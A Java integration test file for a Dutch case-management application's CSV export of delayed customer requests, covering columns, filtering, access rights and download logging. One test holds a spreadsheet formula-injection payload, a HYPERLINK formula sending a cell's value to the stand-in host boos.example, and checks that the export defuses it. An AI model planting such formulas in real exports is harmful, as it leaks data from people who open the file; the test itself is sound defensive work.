package nl.zaakregie.klantaanvraag.web;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import java.io.IOException;
import java.time.LocalDate;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import nl.zaakregie.support.ApiClient.Answer;
import nl.zaakregie.support.ApplicationTest;
import nl.zaakregie.support.Kcc;
import nl.zaakregie.support.TasklistClient;
import nl.zaakregie.support.Voorbeelden;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

/** The list of klantaanvragen in a spreadsheet: what is in it, and what cannot get out of its cell. */
@ApplicationTest
class KlantaanvraagCsvIT {

    private static final DateTimeFormatter DAG = DateTimeFormatter.ofPattern("dd-MM-yyyy");
    private static final CSVFormat FORMAT = CSVFormat.DEFAULT
            .builder()
            .setDelimiter(';')
            .setHeader()
            .setSkipHeaderRecord(true)
            .get();

    private final int port;
    private final Kcc kcc;
    private final JdbcClient jdbc;

    @Autowired
    KlantaanvraagCsvIT(@LocalServerPort int port, JdbcClient jdbc) {
        this.port = port;
        this.kcc = new Kcc(port);
        this.jdbc = jdbc;
    }

    @Test
    void whatTheDirectorNotedCannotBecomeAFormula() throws IOException {
        String formule = "=HYPERLINK(\"http://boos.example?\"&A1;\"klik\"),=1+1;=2\n@SUM(1)";
        Delayed klantaanvraag = delayed();
        assess(klantaanvraag.nummer(), formule);

        TasklistClient.Answer answer = page("amira", "/klantaanvragen.csv?vertraagd=true");

        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.text()).startsWith("\uFEFF").doesNotContain(";\"=", ";\"@");
        CSVRecord regel = row(answer, klantaanvraag.nummer());
        assertThat(regel.get("Toelichting")).isEqualTo("'" + formule);
        assertThat(regel.size()).isEqualTo(11);
        assertThat(regel.get("Gedaan")).isEqualTo("anders");
    }

    @Test
    void rowSaysWhichPromiseMovedAndWhy() throws IOException {
        Delayed klantaanvraag = delayed();
        Answer stand = kcc.as("amira").get("/api/v1/klantaanvragen/" + klantaanvraag.nummer());

        CSVRecord regel = row(page("karin", "/klantaanvragen.csv"), klantaanvraag.nummer());

        assertThat(regel.toMap())
                .containsAllEntriesOf(Map.of(
                        "Klantcontact",
                        stand.text("/klantcontact"),
                        "Zaken",
                        String.join(", ", klantaanvraag.zaken()),
                        "Zaken open",
                        "2",
                        "Beloofd op",
                        DAG.format(LocalDate.parse(stand.text("/beloofdOp"))),
                        "Verwacht op",
                        DAG.format(LocalDate.parse(stand.text("/verwachtOp"))),
                        "Werkdagen later",
                        "5",
                        "Oorzaak",
                        "wacht op een andere zaak",
                        "Door zaak",
                        stand.text("/vertragingen/0/zaak"),
                        "Gedaan",
                        "",
                        "Toelichting",
                        ""));
    }

    @Test
    void listOfDelaysLeavesTheOthersOutAndLooksAreLogged() throws IOException {
        String opTijd = kcc.createParkeervergunning();
        String nummer =
                kcc.as("tom").get("/api/v1/klantaanvragen?zaak=" + opTijd).text("/klantaanvragen/0/nummer");
        int gekeken = looks("teun");

        TasklistClient.Answer vertraagd = page("teun", "/klantaanvragen.csv?vertraagd=true");
        TasklistClient.Answer alle = page("teun", "/klantaanvragen.csv");

        assertThat(vertraagd.text()).doesNotContain(nummer);
        assertThat(alle.text()).contains(nummer);
        assertThat(alle.header("Content-Disposition")).isEqualTo("attachment; filename=\"klantaanvragen-open.csv\"");
        assertThat(looks("teun")).isEqualTo(gekeken + 2);
    }

    @Test
    void pageOffersItToWhoeverMayHaveIt() {
        delayed();

        assertThat(page("amira", "/klantaanvragen?vertraagd=true").text())
                .contains("href=\"/klantaanvragen.csv?vertraagd=true\"");
        assertThat(page("tom", "/klantaanvragen?vertraagd=true").text()).doesNotContain("klantaanvragen.csv");
    }

    private TasklistClient.Answer page(String account, String path) {
        return TasklistClient.as(account, port).get(path);
    }

    private record Delayed(String nummer, List<String> zaken) {}

    /** Somebody says that the short work waits for the long one. */
    private Delayed delayed() {
        String nummer =
                kcc.createDelayedKlantaanvraag(Voorbeelden.aanvraag("kwijtschelding-aanvragen", "kwijtschelding"));
        List<String> zaken = new ArrayList<>();
        kcc.as("tom")
                .get("/api/v1/klantaanvragen/" + nummer)
                .json()
                .path("zaken")
                .forEach(zaak -> zaken.add(zaak.path("nummer").asText()));
        return new Delayed(nummer, zaken);
    }

    private void assess(String nummer, String toelichting) throws IOException {
        String body = new ObjectMapper()
                .writeValueAsString(JsonNodeFactory.instance
                        .objectNode()
                        .put("uitkomst", "ANDERS")
                        .put("toelichting", toelichting)
                        .put("gezien", 1));
        Answer answer = kcc.as("amira").post("/api/v1/klantaanvragen/" + nummer + "/vertragingsbeoordeling", body);
        assertThat(answer.status()).as(answer.text()).isEqualTo(200);
    }

    private static CSVRecord row(TasklistClient.Answer answer, String nummer) throws IOException {
        try (CSVParser parser = CSVParser.parse(answer.text().substring(1), FORMAT)) {
            return parser.stream()
                    .filter(regel -> regel.get("Klantaanvraag").equals(nummer))
                    .findFirst()
                    .orElseThrow();
        }
    }

    private int looks(String account) {
        return jdbc.sql(
                        "select count(*) from inzage where gebruiker = :account and soort = 'klantaanvragen' and doel = 'downloaden'")
                .param("account", account)
                .query(Integer.class)
                .single();
    }
}
